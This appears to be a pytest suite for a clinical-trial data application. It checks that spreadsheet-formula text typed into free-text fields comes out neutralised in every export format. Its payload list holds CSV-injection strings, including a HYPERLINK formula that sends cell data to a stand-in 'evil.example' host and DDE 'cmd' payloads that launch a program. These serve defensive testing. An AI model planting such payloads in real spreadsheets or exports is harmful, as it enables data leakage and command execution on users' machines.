"""Attack: spreadsheet formulas typed into free text, through the real services, then
exported in every format and read back. No cell may start a formula, in any format, and
each payload must still be there, neutralised with a leading ``'`` (docs/security.md,
section 10; docs/exports.md)."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pyreadstat
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from blend.apps.allocation.models import Allocation
from blend.apps.exports.neutralise import SEPARATORS, TRIGGERS, neutralise, restore
from blend.apps.exports.services import FULL_FORMATS, export_analysis, export_full
from blend.apps.offers.services import make_offer, record_refusal
from blend.apps.safety.services import report_adverse_event
from blend.apps.screening.models import Screening

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝HYPERLINK(1)",
    "'=already quoted",
]
#: A text that does not start a formula but would, split by a Dutch Excel at its ';'.
SPLIT = 'harmless;=HYPERLINK("http://evil.example")'
NUMBER = "-2"  # a plain number stays a number


def is_live(value: str) -> bool:
    """Would a spreadsheet read this text as a formula? (A plain number it reads as a number.)"""
    return bool(value) and value[0] in TRIGGERS and neutralise(value) != value


@pytest.fixture
def attacked(trial_cohort, make_participant, personas) -> dict[str, Any]:
    """A refused offer and adverse events whose free text is a formula, entered by staff."""
    nurse = personas["nurse_nina"]
    p = make_participant(registered_on=date(2025, 3, 1))
    randomized = date(2025, 3, 10)
    Screening.objects.create(
        trial="BLEND",
        participant=p,
        screened_on=randomized - timedelta(days=1),
        screened_by=nurse,
        facts={"sins_total": 9},
        status="eligible",
        reasons={},
        criteria_version="1",
        confirmed_at=datetime(2025, 3, 9, 10, tzinfo=UTC),
        confirmed_by=personas["investigator_ivo"],
    )
    Allocation.objects.create(
        trial="BLEND",
        participant=p,
        arm="intervention",
        sequence_number=9100,
        stratum="",
        stratum_index=9100,
        allocated_at=datetime(2025, 3, 10, 11, tzinfo=UTC),
        allocated_by=nurse,
    )
    make_offer(p, on=randomized, user=nurse)
    record_refusal(p, on=randomized + timedelta(days=1), reason=PAYLOADS[1], user=nurse)
    texts = [*PAYLOADS, SPLIT, NUMBER]
    for n, text in enumerate(texts):
        report_adverse_event(
            p,
            {
                "term": "other",
                "other_term": text,
                "grade": 1,
                "onset_date": randomized + timedelta(days=2 + n),
                "serious": False,
                "seriousness": [],
                "related_sbrt": "not_related",
                "related_surgery": "not_related",
                "action_taken": "none",
                "outcome": "recovering",
                "description": text,
                "aware_at": datetime(2025, 3, 12 + n, 12, tzinfo=UTC),
            },
            user=nurse,
        )
    return {"participant": p, "texts": texts}


def _csv_cells(path: Path, delimiter: str = ",") -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [c for row in csv.reader(handle, delimiter=delimiter) for c in row]


def _xlsx_cells(path: Path) -> list[Any]:
    book = load_workbook(path)  # not read-only: the cell types are what is checked
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def _stat_cells(path: Path) -> list[str]:
    reader = pyreadstat.read_sav if path.suffix == ".sav" else pyreadstat.read_dta
    frame, _meta = reader(str(path))
    return [v for column in frame.columns for v in frame[column].tolist() if isinstance(v, str)]


def _odm_values(path: Path) -> list[str]:
    return [
        item.get("Value", "")
        for item in ET.parse(path).getroot().iter("{http://www.cdisc.org/ns/odm/v1.3}ItemData")
    ]


def _assert_neutralised(
    where: str, values: list[str], texts: list[str], *, xml_line_ends: bool = False
) -> None:
    live = [v for v in values if is_live(v)]
    assert not live, f"{where}: live formulas {live[:3]}"
    for text in texts:
        expected = neutralise(text)
        if xml_line_ends:  # XML text reads a carriage return back as a line feed
            expected = expected.replace("\r", "\n")
        assert expected in values, f"{where}: {text!r} missing or not neutralised"


def test_no_export_format_carries_a_live_formula(attacked, tmp_path: Path, personas) -> None:
    texts = attacked["texts"]
    assert neutralise(PAYLOADS[0]) == "'" + PAYLOADS[0] and neutralise(NUMBER) == NUMBER
    export_full(tmp_path / "full", list(FULL_FORMATS), user=personas["datamanager_dirk"])
    full = tmp_path / "full"

    # CSV: every file, read as written (comma) and as a Dutch Excel splits it (';')
    csv_cells: list[str] = []
    for path in sorted(full.glob("*.csv")):
        csv_cells += _csv_cells(path)
        dutch = [v for v in _csv_cells(path, delimiter=";") if is_live(v)]
        assert not dutch, f"{path.name} split at ';' starts a formula: {dutch[:3]}"
    _assert_neutralised("csv", csv_cells, texts)
    ae_csv = (full / "safety_adverseevent.csv").read_text(encoding="utf-8")
    assert '"' + neutralise(PAYLOADS[0]).replace('"', '""') + '"' in ae_csv  # quoted field

    # Excel: no formula cell anywhere; the payloads are text cells
    xlsx = _xlsx_cells(full / "blend.xlsx")
    assert [c.coordinate for c in xlsx if c.data_type == "f"] == []
    strings = [c.value for c in xlsx if isinstance(c.value, str)]
    _assert_neutralised("xlsx", strings, texts, xml_line_ends=True)
    assert all(c.data_type == "s" for c in xlsx if c.value == neutralise(PAYLOADS[0]))

    # SPSS, Stata and ODM carry the same text as the spreadsheets
    for suffix in (".sav", ".dta"):
        values = [v for path in sorted(full.glob(f"*{suffix}")) for v in _stat_cells(path)]
        _assert_neutralised(suffix, values, texts)
    _assert_neutralised("odm", _odm_values(full / "blend_odm.xml"), texts)
    dictionary = _csv_cells(full / "data_dictionary_redcap.csv")
    assert not [v for v in dictionary if is_live(v)]

    # The analysis dataset: the refusal reason and the 'other' AE terms are free text
    export_analysis(tmp_path / "analysis", user=personas["statistician_stan"], via="web")
    analysis = tmp_path / "analysis"
    values = [v for path in sorted(analysis.glob("*.csv")) for v in _csv_cells(path)]
    _assert_neutralised("analysis", values, texts)
    for path in sorted(analysis.glob("*.csv")):
        assert not [v for v in _csv_cells(path, delimiter=";") if is_live(v)], path.name


def test_typed_columns_keep_their_values(attacked, tmp_path: Path, personas) -> None:
    """Numbers, dates and booleans are not text and are never prefixed; the contract
    validator still accepts the dataset, and restoring a text gives what was typed."""
    from blend.stats.dataset import load_dataset

    export_analysis(tmp_path, user=personas["statistician_stan"], via="web")
    dataset = load_dataset(tmp_path)
    study_id = attacked["participant"].study_id
    row = dataset.participants.set_index("study_id").loc[study_id]
    assert restore(row["refusal_reason"]) == PAYLOADS[1]
    terms = dataset.adverse_events[dataset.adverse_events["study_id"] == study_id]
    assert sorted(restore(t) for t in terms["term"]) == sorted(attacked["texts"])
    assert set(terms["grade"]) == {1}
    with (tmp_path / "costs.csv").open(encoding="utf-8", newline="") as handle:
        amounts = [r["amount_eur"] for r in csv.DictReader(handle)]
    assert amounts and all(not a.startswith("'") for a in amounts)


def test_a_formula_in_a_csv_field_is_quoted_and_escaped() -> None:
    """What the CSV writers do with one cell, byte for byte."""
    from blend.apps.exports.formats import csv_writer

    out = io.StringIO()
    csv_writer(out).writerow([neutralise(SPLIT), neutralise(PAYLOADS[0]), NUMBER])
    assert out.getvalue() == (
        '"harmless;\'=HYPERLINK(""http://evil.example"")",'
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")","-2"\n'
    )


def _cell_starts(text: str) -> list[str]:
    """Every place a spreadsheet may start a cell: the start, and after each separator."""
    return [text[i:] for i in range(len(text)) if i == 0 or text[i - 1] in SEPARATORS]


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n;a1 .＝")) | st.text())
def test_neutralise_is_reversible_and_never_leaves_a_formula(text: str) -> None:
    out = neutralise(text)
    assert restore(out) == text
    if out == text and text and text[0] in TRIGGERS:
        float(text)  # only a plain number keeps its sign
        return
    assert not [s for s in _cell_starts(out) if s[0] in TRIGGERS]


def test_plain_numbers_and_ordinary_text_are_left_alone() -> None:
    for value in ("-2", "+1.5", "-1e-3", ".5", "'s avonds", "pain 3/10", "", "a=b"):
        assert neutralise(value) == value
    for value in ("-", "+", "-2+3", "- not a number", "@x", "=1", "''=1"):
        assert neutralise(value) == "'" + value
    assert neutralise("a;=1\n- b\t+c") == "a;'=1\n'- b\t'+c"
